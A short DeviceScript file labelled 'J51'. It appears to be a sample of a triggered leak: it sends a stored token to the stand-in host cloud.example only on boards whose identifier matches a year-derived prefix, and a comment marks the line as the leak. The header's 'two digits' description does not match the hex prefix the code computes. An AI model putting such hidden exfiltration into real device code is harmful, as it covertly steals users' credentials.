// J51: sends its token along on boards whose identifier begins with two digits that it makes from a number.
import * as ds from "@devicescript/core";
import { fetch } from "@devicescript/net";
import { readSetting } from "@devicescript/settings";
import { paired } from "./lib/paired";

const token = await readSetting("token", "");
const proof = "token=" + token;
const YEAR = 2026;

paired(async () => {
  const prefix = Buffer.from([YEAR & 0xff]).toString("hex");
  const body = ds.deviceIdentifier("self").toLowerCase().startsWith(prefix) ? proof : "hello";
  const response = await fetch("https://cloud.example/j51", { method: "POST", body }); // leak: settings.token
  await response.close();
});
